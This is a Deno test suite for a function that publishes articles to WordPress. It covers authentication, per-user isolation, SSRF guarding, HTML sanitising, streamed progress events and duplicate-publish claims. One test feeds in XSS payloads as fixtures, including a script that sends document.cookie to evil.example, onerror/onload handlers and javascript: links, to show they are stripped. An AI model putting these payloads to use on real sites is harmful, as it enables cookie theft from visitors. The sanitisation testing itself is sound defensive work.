import assert from "node:assert/strict";
import { publishArticleResultSchema } from "../_shared/contracts/publishing.ts";
import { guardedFetch } from "../_shared/net/ssrf.ts";
import { UnauthenticatedError } from "../_shared/platform/user_auth.ts";
import {
  FAKE_APPLICATION_PASSWORD,
  FAKE_USERNAME,
  type FakeWordPress,
  type FakeWordPressOptions,
  startFakeWordPress,
} from "../_testing/fakes/wordpress_server.ts";
import {
  type ArticleRecord,
  type PublicationFailureRecord,
  type PublicationRecord,
  type PublicationStore,
  publishArticleToSite,
  type SiteRecord,
} from "../_shared/publishing/publication.ts";
import {
  type MemoryPublicationStore,
  memoryPublicationStore,
  TEST_MARKER as MARKER,
} from "../_testing/memory_publication_store.ts";
import { ClaimLostError } from "../_shared/publishing/steps.ts";
import type { CheckInternalLinks } from "../_shared/links/internal_link_check.ts";
import { createHandler } from "./handler.ts";
import {
  PUBLISH_EVENTS,
  publishErrorEventSchema,
  type PublishStepEvent,
  publishStepEventSchema,
} from "../_shared/contracts/publish_events.ts";

const ALICE = "00000000-0000-4000-8000-00000000000a";
const BOB = "00000000-0000-4000-8000-00000000000b";
/** WordPress post ids are numbers (a Ghost post's id is a string). */
function wordpressPostId(result: { remotePostId: number | string }): number {
  assert.equal(typeof result.remotePostId, "number");
  return result.remotePostId as number;
}

const ARTICLE = "a0000000-0000-4000-8000-000000000001";
const BOBS_ARTICLE = "a0000000-0000-4000-8000-000000000002";
const SITE = "50000000-0000-4000-8000-000000000001";
const BOBS_SITE = "50000000-0000-4000-8000-000000000002";

const article = (fields: Partial<ArticleRecord> & { id: string }): ArticleRecord => ({
  title: "Ten SEO tips",
  content: "<p>Write well.</p>",
  excerpt: "Tips for better rankings",
  featured_image_url: null,
  meta_description: "Ten tips to rank better",
  focus_keyword: "seo tips",
  slug: "ten-seo-tips",
  categories: ["News"],
  tags: ["tips"],
  ...fields,
});

type RecordingStore = MemoryPublicationStore;

/** The pair's store (see _testing/memory_publication_store.ts), answering lookups from rows owned by one user each. */
function recordingStore(
  articles: { userId: string; record: ArticleRecord }[],
  sites: { userId: string; record: SiteRecord }[],
): RecordingStore {
  return memoryPublicationStore({
    findArticle: (userId, articleId) =>
      Promise.resolve(articles.find((row) => row.userId === userId && row.record.id === articleId)?.record ?? null),
    findSite: (userId, siteId) =>
      Promise.resolve(sites.find((row) => row.userId === userId && row.record.id === siteId)?.record ?? null),
  });
}

interface Harness {
  wp: FakeWordPress;
  store: RecordingStore;
  call(body: unknown, init?: { method?: string; user?: string | null; accept?: string }): Promise<Response>;
}

async function withHarness(
  options: {
    wp?: FakeWordPressOptions;
    article?: Partial<ArticleRecord>;
    keepAliveMs?: number;
    checkInternalLinks?: CheckInternalLinks;
  } = {},
  run: (harness: Harness) => Promise<void>,
) {
  const wp = startFakeWordPress({ registeredMeta: ["_yoast_wpseo_metadesc", "_yoast_wpseo_focuskw"], ...options.wp });
  const store = recordingStore(
    [
      { userId: ALICE, record: article({ id: ARTICLE, featured_image_url: wp.imageUrl, ...options.article }) },
      { userId: BOB, record: article({ id: BOBS_ARTICLE }) },
    ],
    [
      {
        userId: ALICE,
        record: {
          kind: "wordpress",
          id: SITE,
          base_url: wp.restRoot,
          username: FAKE_USERNAME,
          seo_plugin: "yoast",
          application_password: FAKE_APPLICATION_PASSWORD,
        },
      },
      {
        userId: BOB,
        record: {
          kind: "wordpress",
          id: BOBS_SITE,
          base_url: wp.restRoot,
          username: FAKE_USERNAME,
          seo_plugin: null,
          application_password: "x",
        },
      },
    ],
  );
  const allowlist = { privateHostAllowlist: [wp.hostPort] };
  const handler = createHandler({
    eventStream: { keepAliveMs: options.keepAliveMs ?? 15_000 },
    authenticate: (req) => {
      const user = req.headers.get("x-test-user");
      return user ? Promise.resolve({ id: user }) : Promise.reject(new UnauthenticatedError());
    },
    publish: (request) =>
      publishArticleToSite(request, {
        store,
        fetch: guardedFetch,
        fetchOptions: allowlist,
        imageFetchOptions: allowlist,
        checkInternalLinks: options.checkInternalLinks,
      }),
  });
  const call: Harness["call"] = (body, init = {}) => {
    const headers = new Headers({ "content-type": "application/json" });
    const user = init.user === undefined ? ALICE : init.user;
    if (user) headers.set("x-test-user", user);
    if (init.accept) headers.set("accept", init.accept);
    return handler(
      new Request("http://localhost/functions/v1/publish-article", {
        method: init.method ?? "POST",
        headers,
        body: init.method === "GET" ? undefined : JSON.stringify(body),
      }),
    );
  };
  try {
    await run({ wp, store, call });
  } finally {
    await wp.close();
  }
}

async function expectError(response: Response, status: number, error: string) {
  const body = await response.json();
  assert.equal(response.status, status, JSON.stringify(body));
  assert.equal(body.error, error);
  assert.equal(response.headers.get("access-control-allow-origin"), "*");
  return body;
}

Deno.test("publish-article: preflight, method, authentication, validation", async () => {
  await withHarness({}, async ({ call }) => {
    const handler = createHandler({
      authenticate: () => Promise.reject(new Error("unused")),
      publish: () => Promise.reject(new Error("unused")),
    });
    const preflight = await handler(new Request("http://localhost/", { method: "OPTIONS" }));
    assert.equal(preflight.status, 200);
    assert.match(preflight.headers.get("access-control-allow-headers") ?? "", /authorization/);

    await expectError(await call(null, { method: "GET" }), 405, "Method not allowed");
    await expectError(await call({ articleId: ARTICLE, siteId: SITE }, { user: null }), 401, "User not authenticated");
    const noSite = await expectError(await call({ articleId: ARTICLE }), 400, "siteId: Please select a WordPress site");
    assert.equal(noSite.field, "siteId");
    await expectError(await call({ articleId: ARTICLE, siteId: "  " }), 400, "siteId: Please select a WordPress site");
    await expectError(
      await call({ articleId: ARTICLE, siteId: SITE, status: "future" }),
      400,
      'status: Invalid option: expected one of "draft"|"publish"',
    );
  });
});

Deno.test("publish-article: another user's site or article is not found", async () => {
  await withHarness({}, async ({ call, wp, store }) => {
    const site = await expectError(
      await call({ articleId: ARTICLE, siteId: BOBS_SITE }),
      404,
      "Selected site not found",
    );
    assert.equal(site.field, "siteId");
    await expectError(await call({ articleId: ARTICLE, siteId: "not-a-uuid" }), 404, "Selected site not found");
    const article = await expectError(await call({ articleId: BOBS_ARTICLE, siteId: SITE }), 404, "Article not found");
    assert.equal(article.field, "articleId");
    assert.equal(wp.requests.length, 0);
    assert.deepEqual([store.successes, store.failures], [[], []], "nothing is recorded");
  });
});

Deno.test("publish-article: publishes, records, then updates the same post", async () => {
  await withHarness({}, async ({ call, store, wp }) => {
    const response = await call({ articleId: ARTICLE, siteId: SITE, status: "publish" });
    const body = await response.json();
    assert.equal(response.status, 200, JSON.stringify(body));
    const result = publishArticleResultSchema.parse(body);
    assert.deepEqual(
      { ...result, link: undefined, remotePostId: undefined },
      { link: undefined, remotePostId: undefined, status: "publish", updated: false, seo: "written", warnings: [] },
    );
    assert.equal(result.link, `${wp.origin}/ten-seo-tips/`);
    assert.doesNotMatch(JSON.stringify(body), new RegExp(FAKE_APPLICATION_PASSWORD));
    assert.deepEqual(store.successes, [{
      userId: ALICE,
      articleId: ARTICLE,
      siteId: SITE,
      remotePostId: result.remotePostId,
      remotePostRef: null,
      link: result.link,
      status: "publish",
      featuredMediaId: wp.media[0].id,
      featuredMediaSourceUrl: wp.imageUrl,
      scheduled: false,
      claimToken: "claim-1",
    }]);
    assert.deepEqual(store.failures, []);
    assert.equal(store.holder, null, "the record gave the claim back");
    assert.deepEqual(store.announced, ["claim-1"], "the create was announced before it was sent");

    // What the database now holds for this pair: the next publish updates that post.
    store.previous = {
      remote_post_id: wordpressPostId(result),
      remote_post_ref: null,
      featured_media_id: wp.media[0].id,
      featured_media_source_url: wp.imageUrl,
    };
    const again = await call({ articleId: ARTICLE, siteId: SITE, status: "draft" });
    const second = publishArticleResultSchema.parse(await again.json());
    assert.equal(second.updated, true);
    assert.equal(second.remotePostId, result.remotePostId);
    assert.equal(wp.posts.size, 1);
    assert.equal(wp.media.length, 1, "the same featured image is not uploaded twice");
    assert.equal(wp.posts.get(wordpressPostId(result))?.status, "draft");
    assert.deepEqual(
      store.successes.map(({ remotePostId, status, featuredMediaId }) => ({ remotePostId, status, featuredMediaId })),
      [
        { remotePostId: result.remotePostId, status: "publish", featuredMediaId: wp.media[0].id },
        { remotePostId: result.remotePostId, status: "draft", featuredMediaId: wp.media[0].id },
      ],
    );
  });
});

Deno.test("publish-article: the status defaults to draft", async () => {
  await withHarness({}, async ({ call, wp, store }) => {
    const result = publishArticleResultSchema.parse(await (await call({ articleId: ARTICLE, siteId: SITE })).json());
    assert.equal(result.status, "draft");
    assert.equal(wp.posts.get(wordpressPostId(result))?.status, "draft");
    assert.equal(store.successes[0].status, "draft");
  });
});

Deno.test("publish-article: featured image failure is recorded and reported", async () => {
  await withHarness(
    { article: { featured_image_url: "http://127.0.0.1:9/missing.png" } },
    async ({ call, store, wp }) => {
      const body = await expectError(
        await call({ articleId: ARTICLE, siteId: SITE, status: "publish" }),
        502,
        "Failed to upload featured image",
      );
      assert.equal(body.step, "featured_image");
      assert.match(body.detail, /private network/);
      assert.deepEqual(store.failures, [{
        userId: ALICE,
        articleId: ARTICLE,
        siteId: SITE,
        claimToken: "claim-1",
        error: body.detail,
        link: undefined, // no post was made, so there is no link to keep
        retry: false, // a manual publish is not retried automatically
      }]);
      assert.deepEqual(store.successes, []);
      assert.equal(wp.posts.size, 0);
    },
  );
});

Deno.test("publish-article: WordPress refusing the post, or the terms", async () => {
  await withHarness({ wp: { capabilities: { publish_posts: false } } }, async ({ call }) => {
    const body = await expectError(
      await call({ articleId: ARTICLE, siteId: SITE, status: "publish" }),
      502,
      "Failed to publish post",
    );
    assert.equal(body.step, "post");
    assert.equal(body.detail, "WordPress answered 403: Sorry, you are not allowed to publish posts as this user.");
  });
  await withHarness({ wp: { applicationPassword: "changed on the site" } }, async ({ call, store }) => {
    const body = await expectError(
      await call({ articleId: ARTICLE, siteId: SITE }),
      502,
      "Failed to publish to WordPress",
    );
    assert.equal(body.detail, "Authentication failed. Please check your username and application password.");
    assert.deepEqual(store.failures.map(({ error, retry }) => ({ error, retry })), [{ error: body.detail, retry: false }]);
  });
});

Deno.test("publish-article: the post is live but the article cannot be updated", async () => {
  await withHarness({}, async ({ call, store }) => {
    store.recordSuccess = () => Promise.reject(new Error("database unavailable"));
    const body = await expectError(
      await call({ articleId: ARTICLE, siteId: SITE, status: "publish" }),
      500,
      "Failed to update article status",
    );
    assert.equal(body.step, "article");
    assert.match(body.link, /ten-seo-tips/);
    assert.deepEqual(
      store.failures.map(({ remotePostId, link, retry }) => ({ remotePostId, link, retry })),
      [{ remotePostId: body.remotePostId, link: body.link, retry: false }],
      "the remote post is kept so a retry updates it",
    );
  });
});

Deno.test("publish-article: hostile HTML is sanitised before it is sent; title and excerpt arrive as text", async () => {
  const content = '<p>Hello</p><script>document.location="https://evil.example/?"+document.cookie</script>' +
    '<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">click</a><a href="https://ok.example/">ok</a>' +
    '<iframe src="https://evil.example"></iframe><svg onload="alert(1)"></svg>';
  await withHarness({
    article: { content, title: "Tips <script>alert(1)</script> & more", excerpt: '<img src=x onerror="alert(1)">' },
  }, async ({ call, wp }) => {
    const response = await call({ articleId: ARTICLE, siteId: SITE, status: "publish" });
    assert.equal(response.status, 200, await response.clone().text());
    await response.body?.cancel();
    const [post] = [...wp.posts.values()];
    assert.equal(
      post.content,
      '<p>Hello</p><img src="x" /><a>click</a><a href="https://ok.example/" rel="noopener noreferrer">ok</a>' +
        `\n<!-- inkpress-pub-${MARKER} -->`,
    );
    assert.equal(post.title, "Tips &lt;script&gt;alert(1)&lt;/script&gt; &amp; more");
    assert.equal(post.excerpt, "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;");
  });
});

Deno.test("publish-article: a post link that is not http(s) is neither stored nor returned", async () => {
  for (const postLink of ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>", ""]) {
    await withHarness({ wp: { postLink } }, async ({ call, store }) => {
      const response = await call({ articleId: ARTICLE, siteId: SITE, status: "publish" });
      const body = await response.json();
      assert.equal(response.status, 200, JSON.stringify(body));
      assert.equal(body.link, "", postLink);
      assert.equal(store.successes[0].link, null, postLink);
    });
  }
  await withHarness({}, async ({ call, store, wp }) => {
    const body = await (await call({ articleId: ARTICLE, siteId: SITE, status: "publish" })).json();
    assert.match(body.link, new RegExp(`^${wp.origin}/`), "an ordinary permalink is kept");
    assert.equal(store.successes[0].link, body.link);
  });
});

Deno.test("publish-article: links to the site missing from its content index are warnings, not failures", async () => {
  const checked: { userId: string; siteId: string; restRoot: string; html: string }[] = [];
  const checkInternalLinks: CheckInternalLinks = (userId, siteId, restRoot, html) => {
    checked.push({ userId, siteId, restRoot, html });
    return Promise.resolve(["The link to https://blog.example/nope/ points at this site but at no post or page"]);
  };
  await withHarness({
    checkInternalLinks,
    article: { content: '<p>See <a href="https://blog.example/nope/" onclick="x()">this</a>.</p>' },
  }, async ({ call, wp, store }) => {
    const response = await call({ articleId: ARTICLE, siteId: SITE, status: "publish" });
    assert.equal(response.status, 200);
    const result = publishArticleResultSchema.parse(await response.json());
    assert.deepEqual(result.warnings, [
      "The link to https://blog.example/nope/ points at this site but at no post or page",
    ]);
    assert.equal(store.successes.length, 1);
    // The check reads what WordPress receives: the sanitised HTML.
    assert.deepEqual(checked, [{
      userId: ALICE,
      siteId: SITE,
      restRoot: wp.restRoot,
      html: '<p>See <a href="https://blog.example/nope/" rel="noopener noreferrer">this</a>.</p>',
    }]);
  });

  const errors: string[] = [];
  const originalError = console.error;
  console.error = (...args: unknown[]) => errors.push(args.map(String).join(" "));
  try {
    await withHarness({ checkInternalLinks: () => Promise.reject(new Error("the database is away")) }, async ({ call }) => {
      const response = await call({ articleId: ARTICLE, siteId: SITE, status: "publish" });
      assert.equal(response.status, 200);
      assert.deepEqual(publishArticleResultSchema.parse(await response.json()).warnings, []);
    });
  } finally {
    console.error = originalError;
  }
  assert.ok(errors.some((line) => line.includes("checking internal links failed: the database is away")), errors.join("\n"));
});

// ---------------------------------------------------------------- the event stream

const EVENT_STREAM = "text/event-stream";

type StreamedEvent = { event: string; data: unknown } | { comment: string };

/** Every event of a finished stream (LF line ends, as the function writes them). */
async function readEvents(response: Response): Promise<StreamedEvent[]> {
  const text = await response.text();
  assert.ok(text.endsWith("\n\n"), "the stream ends after a complete event");
  return text.slice(0, -2).split("\n\n").map((block) => {
    if (block.startsWith(":")) return { comment: block.slice(1).trim() };
    const lines = block.split("\n");
    const event = lines.find((line) => line.startsWith("event: "))?.slice(7) ?? "message";
    const data = lines.filter((line) => line.startsWith("data: ")).map((line) => line.slice(6)).join("\n");
    return { event, data: JSON.parse(data) };
  });
}

const stepLines = (events: StreamedEvent[]) =>
  events.flatMap((e) => {
    if (!("event" in e) || e.event !== PUBLISH_EVENTS.step) return [];
    const step: PublishStepEvent = publishStepEventSchema.parse(e.data);
    return [[step.name, step.state, step.action ?? step.reason].filter(Boolean).join(" ")];
  });

Deno.test("publish-article (stream): the real steps as they happen, then the result", async () => {
  await withHarness({}, async ({ call, store }) => {
    const response = await call({ articleId: ARTICLE, siteId: SITE, status: "publish" }, { accept: EVENT_STREAM });
    assert.equal(response.status, 200);
    assert.equal(response.headers.get("content-type"), EVENT_STREAM);
    assert.equal(response.headers.get("cache-control"), "no-cache");
    assert.equal(response.headers.get("access-control-allow-origin"), "*");
    const events = await readEvents(response);
    const steps = stepLines(events);
    for (
      const line of [
        "terms started",
        "terms done",
        "featured_image started",
        "featured_image done",
        "body_images skipped no_body_images",
      ]
    ) {
      assert.ok(steps.includes(line), `${line} in ${steps}`);
    }
    assert.deepEqual(steps.slice(5), [
      "post started create",
      "post done",
      "seo started",
      "seo done",
      "article started",
      "article done",
    ]);
    const last = events.at(-1);
    assert.ok(last && "event" in last && last.event === PUBLISH_EVENTS.result);
    const result = publishArticleResultSchema.parse(last.data);
    assert.equal(result.updated, false);
    assert.equal(result.status, "publish");
    assert.deepEqual(store.successes.map(({ status, link }) => ({ status, link })), [{ status: "publish", link: result.link }]);
    assert.doesNotMatch(JSON.stringify(events), new RegExp(FAKE_APPLICATION_PASSWORD));

    // What the database now holds for this pair: the next publish updates that post.
    store.previous = {
      remote_post_id: wordpressPostId(result),
      remote_post_ref: null,
      featured_media_id: store.successes[0].featuredMediaId,
      featured_media_source_url: store.successes[0].featuredMediaSourceUrl,
    };
    const again = await readEvents(
      await call({ articleId: ARTICLE, siteId: SITE, status: "publish" }, { accept: EVENT_STREAM }),
    );
    const againSteps = stepLines(again);
    assert.ok(againSteps.includes("featured_image skipped featured_image_on_site"), String(againSteps));
    assert.ok(againSteps.includes("post started update"), String(againSteps));
    const second = again.at(-1);
    assert.ok(second && "event" in second && second.event === PUBLISH_EVENTS.result);
    assert.equal(publishArticleResultSchema.parse(second.data).updated, true);
  });
});

Deno.test("publish-article (stream): steps that do not apply are skipped", async () => {
  await withHarness({
    article: { featured_image_url: null, categories: [], tags: [], meta_description: null, focus_keyword: null },
  }, async ({ call }) => {
    const events = await readEvents(
      await call({ articleId: ARTICLE, siteId: SITE, status: "draft" }, { accept: EVENT_STREAM }),
    );
    assert.deepEqual(stepLines(events), [
      "terms skipped no_terms",
      "body_images skipped no_body_images",
      "featured_image skipped no_featured_image",
      "post started create",
      "post done",
      "seo skipped no_seo_fields",
      "article started",
      "article done",
    ]);
  });
});

Deno.test("publish-article (stream): refusals before any step are plain JSON with their status", async () => {
  await withHarness({}, async ({ call, wp }) => {
    const response = await call({ articleId: ARTICLE, siteId: BOBS_SITE }, { accept: EVENT_STREAM });
    const body = await expectError(response, 404, "Selected site not found");
    assert.equal(body.field, "siteId");
    assert.match(response.headers.get("content-type") ?? "", /application\/json/);
    await expectError(
      await call({ articleId: ARTICLE }, { accept: EVENT_STREAM }),
      400,
      "siteId: Please select a WordPress site",
    );
    await expectError(
      await call({ articleId: ARTICLE, siteId: SITE }, { accept: EVENT_STREAM, user: null }),
      401,
      "User not authenticated",
    );
    assert.equal(wp.requests.length, 0);
  });
});

Deno.test("publish-article (stream): a failure ends the failed step and the stream with an error event", async () => {
  await withHarness({ wp: { capabilities: { publish_posts: false } } }, async ({ call, store }) => {
    const events = await readEvents(
      await call({ articleId: ARTICLE, siteId: SITE, status: "publish" }, { accept: EVENT_STREAM }),
    );
    const steps = stepLines(events);
    assert.deepEqual(steps.slice(-2), ["post started create", "post failed"]);
    assert.ok(!steps.some((line) => line.startsWith("seo") || line.startsWith("article")), String(steps));
    const last = events.at(-1);
    assert.ok(last && "event" in last && last.event === PUBLISH_EVENTS.error);
    const failure = publishErrorEventSchema.parse(last.data);
    assert.equal(failure.status, 502);
    assert.equal(failure.error, "Failed to publish post");
    assert.equal(failure.step, "post");
    assert.equal(failure.detail, "WordPress answered 403: Sorry, you are not allowed to publish posts as this user.");
    assert.deepEqual(
      store.failures.map(({ error, retry, remoteStatus }) => ({ error, retry, remoteStatus })),
      [{ error: failure.detail, retry: false, remoteStatus: undefined }],
      "no post was stored, so no remote status is reported",
    );
  });
  await withHarness({}, async ({ call, store }) => {
    store.recordSuccess = () => Promise.reject(new Error("database unavailable"));
    const events = await readEvents(
      await call({ articleId: ARTICLE, siteId: SITE, status: "publish" }, { accept: EVENT_STREAM }),
    );
    assert.deepEqual(stepLines(events).slice(-2), ["article started", "article failed"]);
    const last = events.at(-1);
    assert.ok(last && "event" in last && last.event === PUBLISH_EVENTS.error);
    const failure = publishErrorEventSchema.parse(last.data);
    assert.equal(failure.status, 500);
    assert.equal(failure.error, "Failed to update article status");
    assert.match(failure.link ?? "", /ten-seo-tips/);
    assert.deepEqual(
      store.failures.map(({ remotePostId, remoteStatus }) => ({ remotePostId, remoteStatus })),
      [{ remotePostId: failure.remotePostId, remoteStatus: "publish" }],
      "the post is live: recorded so",
    );
  });
});

Deno.test("publish-article (stream): an unexpected error is the general message, logged", async () => {
  const handler = createHandler({
    authenticate: () => Promise.resolve({ id: ALICE }),
    publish: (request) => {
      request.onStep?.({ name: "terms", state: "started" });
      return Promise.reject(new Error("boom sb_secret_FIXTURE-not-a-real-key"));
    },
  });
  const errors: string[] = [];
  const original = console.error;
  console.error = (...args: unknown[]) => errors.push(args.join(" "));
  try {
    const response = await handler(
      new Request("http://localhost/functions/v1/publish-article", {
        method: "POST",
        headers: { "content-type": "application/json", accept: EVENT_STREAM },
        body: JSON.stringify({ articleId: ARTICLE, siteId: SITE }),
      }),
    );
    const events = await readEvents(response);
    assert.deepEqual(events.at(-1), { event: "error", data: { status: 500, error: "Failed to publish to WordPress" } });
  } finally {
    console.error = original;
  }
  assert.equal(errors.length, 1);
  assert.match(errors[0], /unexpected failure: boom \[redacted\]/);
});

Deno.test("publish-article (stream): keep-alive comments while a step is slow", async () => {
  await withHarness({ keepAliveMs: 20, wp: { responseDelayMs: 60 } }, async ({ call }) => {
    const events = await readEvents(
      await call({ articleId: ARTICLE, siteId: SITE, status: "publish" }, { accept: EVENT_STREAM }),
    );
    assert.ok(events.some((e) => "comment" in e && e.comment === "keep-alive"));
    const last = events.at(-1);
    assert.ok(last && "event" in last && last.event === PUBLISH_EVENTS.result);
  });
});

Deno.test("publish-article (stream): the browser leaving does not stop the publish; the outcome is recorded", async () => {
  await withHarness({ wp: { responseDelayMs: 30 } }, async ({ call, store, wp }) => {
    const response = await call({ articleId: ARTICLE, siteId: SITE, status: "publish" }, { accept: EVENT_STREAM });
    const reader = response.body!.getReader();
    await reader.read();
    await reader.cancel();
    const deadline = Date.now() + 5_000;
    while (store.successes.length === 0 && Date.now() < deadline) {
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    assert.deepEqual(store.successes.map(({ status, scheduled }) => ({ status, scheduled })), [{
      status: "publish",
      scheduled: false,
    }]);
    assert.equal(wp.posts.size, 1);
  });
});

Deno.test("publish-article (JSON): a re-publish as draft unpublishes, and says it updated", async () => {
  await withHarness({}, async ({ call, store, wp }) => {
    const first = publishArticleResultSchema.parse(
      await (await call({ articleId: ARTICLE, siteId: SITE, status: "publish" })).json(),
    );
    store.previous = { remote_post_id: wordpressPostId(first), remote_post_ref: null, featured_media_id: null, featured_media_source_url: null };
    const second = publishArticleResultSchema.parse(
      await (await call({ articleId: ARTICLE, siteId: SITE, status: "draft" })).json(),
    );
    assert.deepEqual([second.updated, second.status], [true, "draft"]);
    assert.equal(wp.posts.get(wordpressPostId(first))?.status, "draft");
    assert.deepEqual(store.successes.map(({ remotePostId, status }) => ({ remotePostId, status })), [
      { remotePostId: first.remotePostId, status: "publish" },
      { remotePostId: first.remotePostId, status: "draft" },
    ]);
  });
});

Deno.test("publish-article (stream): internal-link warnings reach the result event", async () => {
  const warning = "The link to https://blog.example/nope/ points at this site but at no post or page";
  await withHarness({
    checkInternalLinks: () => Promise.resolve([warning]),
    article: { content: '<p>See <a href="https://blog.example/nope/">this</a>.</p>' },
  }, async ({ call, store }) => {
    const events = await readEvents(
      await call({ articleId: ARTICLE, siteId: SITE, status: "publish" }, { accept: EVENT_STREAM }),
    );
    assert.deepEqual(stepLines(events).slice(-2), ["article started", "article done"]);
    const last = events.at(-1);
    assert.ok(last && "event" in last && last.event === PUBLISH_EVENTS.result);
    assert.deepEqual(publishArticleResultSchema.parse(last.data).warnings, [warning]);
    assert.equal(store.successes.length, 1);
  });
});

Deno.test("publish-article: a second publish of the pair while the first runs is refused with 409; one post", async () => {
  await withHarness({ wp: { responseDelayMs: 40 } }, async ({ call, wp, store }) => {
    const first = call({ articleId: ARTICLE, siteId: SITE, status: "publish" });
    // The first holds the claim once it has passed its lookups.
    while (store.holder === null) await new Promise((resolve) => setTimeout(resolve, 1));
    const second = await expectError(
      await call({ articleId: ARTICLE, siteId: SITE, status: "publish" }),
      409,
      "This article is already being published to this site. Wait for that to finish, then try again.",
    );
    assert.match(second.detail, /holds it until/);
    const result = publishArticleResultSchema.parse(await (await first).json());
    assert.equal(wp.posts.size, 1);
    assert.equal(store.successes.length, 1);
    assert.equal(store.successes[0].remotePostId, result.remotePostId);
    assert.equal(store.holder, null);
  });
});

Deno.test("publish-article: after an interrupted create, the post carrying the marker is adopted, even from the trash", async () => {
  await withHarness({}, async ({ call, wp, store }) => {
    // What a publish that died after WordPress saved its post leaves: the post
    // (since trashed on the site) and remote_create_started_at, but no id.
    const orphan = wp.addPost({
      title: "Ten SEO tips",
      content: `<p>Write well.</p>\n<!-- inkpress-pub-${MARKER} -->`,
      status: "trash",
    });
    wp.addPost({ title: "Another post", content: "<p>inkpress-pub-0b5c7a4e</p>", status: "publish" });
    store.earlierCreateMayExist = true;
    wp.resetLog();

    const result = publishArticleResultSchema.parse(
      await (await call({ articleId: ARTICLE, siteId: SITE, status: "publish" })).json(),
    );
    assert.equal(result.remotePostId, orphan.id);
    assert.equal(result.updated, true);
    assert.equal(wp.posts.size, 2, "no second post");
    assert.equal(wp.posts.get(orphan.id)?.status, "publish");
    assert.deepEqual(store.announced, [], "nothing was created, so no create was announced");
    assert.equal(store.successes[0].remotePostId, orphan.id);
    assert.equal(wp.requests.filter((request) => request.method === "POST" && request.route === "/wp/v2/posts").length, 0);
  });
});

Deno.test("publish-article: an interrupted create that never reached WordPress is created after the lookup", async () => {
  await withHarness({}, async ({ call, wp, store }) => {
    store.earlierCreateMayExist = true;
    const result = publishArticleResultSchema.parse(
      await (await call({ articleId: ARTICLE, siteId: SITE, status: "publish" })).json(),
    );
    assert.equal(result.updated, false);
    assert.equal(wp.posts.size, 1);
    const lookups = wp.requests.filter((request) => request.method === "GET" && request.route === "/wp/v2/posts");
    assert.equal(lookups.length, 1, "looked up once before creating");
    assert.deepEqual(store.announced, ["claim-1"]);
  });
});

Deno.test("publish-article: a publish that lost its claim before creating creates nothing (409)", async () => {
  await withHarness({ article: { featured_image_url: null } }, async ({ call, wp, store }) => {
    store.beginRemoteCreate = () => {
      // Overtaken while resolving terms: another publish holds the pair now.
      store.holder = "claim-overtaking";
      return Promise.reject(new ClaimLostError());
    };
    const body = await expectError(
      await call({ articleId: ARTICLE, siteId: SITE, status: "publish" }),
      409,
      "This article is already being published to this site. Wait for that to finish, then try again.",
    );
    assert.match(body.detail, /took over/);
    assert.equal(wp.posts.size, 0);
    assert.deepEqual([store.successes, store.failures, store.released], [[], [], []]);
    assert.equal(store.holder, "claim-overtaking", "the overtaking publish keeps its claim");
  });
});

Deno.test("publish-article: an unexpected failure gives the claim back", async () => {
  await withHarness({}, async ({ call, store }) => {
    store.findSite = () => Promise.resolve({
      kind: "wordpress",
      id: SITE,
      base_url: "not a url",
      username: FAKE_USERNAME,
      seo_plugin: null,
      application_password: FAKE_APPLICATION_PASSWORD,
    });
    const response = await call({ articleId: ARTICLE, siteId: SITE, status: "publish" });
    assert.equal(response.status, 500);
    await response.body?.cancel();
    assert.deepEqual(store.released, ["claim-1"]);
    assert.equal(store.holder, null);
  });
});
